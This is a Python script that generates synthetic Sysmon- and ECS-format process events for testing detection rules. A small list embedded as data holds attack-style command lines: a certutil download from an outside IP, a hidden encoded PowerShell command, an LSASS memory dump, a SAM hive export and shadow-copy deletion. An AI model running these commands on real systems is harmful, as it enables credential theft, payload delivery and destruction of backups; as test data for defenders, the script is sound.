#!/usr/bin/env python3
"""Deterministic generator of Sysmon- and ECS-shaped JSON events (NDJSON).

usage: gen_events.py {sysmon|ecs} COUNT [SEED] > events.ndjson

Sysmon events use the flat Sigma field names (EventID, Image, CommandLine,
ParentImage, ...), as winlogbeat-style pipelines and rsigma read them; ECS
events use nested objects (process.name, process.command_line, ...). Mostly
ordinary activity, with about 1% of suspicious-looking command lines so rules
have something to find. The same COUNT and SEED always give the same bytes.
"""
import json
import random
import sys

PROCS = [
    (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234'),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    (r"C:\Windows\System32\cmd.exe", r'cmd.exe /c echo build step %d'),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -Command Get-Date"),
    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\u%d\\Documents\\report.docx"'),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
    (r"C:\Windows\System32\RuntimeBroker.exe", r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
    (r"C:\Program Files\Git\cmd\git.exe", "git status --porcelain"),
    (r"C:\Windows\System32\msiexec.exe", r"C:\Windows\system32\msiexec.exe /V"),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
]
SUSPICIOUS = [
    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\lsass.dmp full"),
    (r"C:\Windows\System32\reg.exe", r"reg.exe save HKLM\SAM C:\Temp\sam.save"),
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\whoami.exe", "whoami.exe /priv"),
]
PARENTS = [r"C:\Windows\explorer.exe", r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\cmd.exe"]


def main():
    shape = sys.argv[1]
    n = int(sys.argv[2])
    rnd = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 42)
    out = sys.stdout
    for i in range(n):
        image, cmd = rnd.choice(SUSPICIOUS) if rnd.random() < 0.01 else rnd.choice(PROCS)
        if "%d" in cmd:
            cmd = cmd % rnd.randrange(1000)
        parent = rnd.choice(PARENTS)
        user = "CORP\\u%d" % rnd.randrange(500)
        host = "ws-%03d.corp.example" % rnd.randrange(200)
        pid = rnd.randrange(100, 65000)
        sec = 1_700_000_000 + i // 10
        ts = "2023-11-14T%02d:%02d:%02d.%03dZ" % ((sec // 3600) % 24, (sec // 60) % 60, sec % 60, i % 1000)
        guid = "{%08X-%04X-%04X-0000-%012X}" % (rnd.getrandbits(32), i % 65536, rnd.getrandbits(16), pid)
        if shape == "sysmon":
            ev = {
                "EventID": 1,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Provider_Name": "Microsoft-Windows-Sysmon",
                "Computer": host,
                "UtcTime": ts.replace("T", " ").rstrip("Z"),
                "ProcessGuid": guid,
                "ProcessId": pid,
                "Image": image,
                "FileVersion": "10.0.19041.1",
                "Description": image.rsplit("\\", 1)[-1],
                "Product": "Microsoft Windows Operating System",
                "Company": "Microsoft Corporation",
                "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
                "CommandLine": cmd,
                "CurrentDirectory": "C:\\Windows\\system32\\",
                "User": user,
                "LogonId": "0x%x" % rnd.getrandbits(24),
                "IntegrityLevel": rnd.choice(["Medium", "High", "System"]),
                "Hashes": "SHA256=%064X" % rnd.getrandbits(256),
                "ParentProcessId": rnd.randrange(100, 65000),
                "ParentImage": parent,
                "ParentCommandLine": parent,
                "ParentUser": user,
            }
        else:
            name = image.rsplit("\\", 1)[-1]
            ev = {
                "@timestamp": ts,
                "event": {"category": ["process"], "type": ["start"], "action": "start", "kind": "event"},
                "host": {"name": host, "os": {"family": "windows"}},
                "user": {"name": user.split("\\")[1], "domain": "CORP"},
                "process": {
                    "pid": pid,
                    "entity_id": guid,
                    "name": name,
                    "executable": image,
                    "command_line": cmd,
                    "args": cmd.split(" "),
                    "parent": {"name": parent.rsplit("\\", 1)[-1], "executable": parent},
                    "pe": {"original_file_name": name.upper()},
                },
            }
        out.write(json.dumps(ev, separators=(",", ":")))
        out.write("\n")


if __name__ == "__main__":
    main()
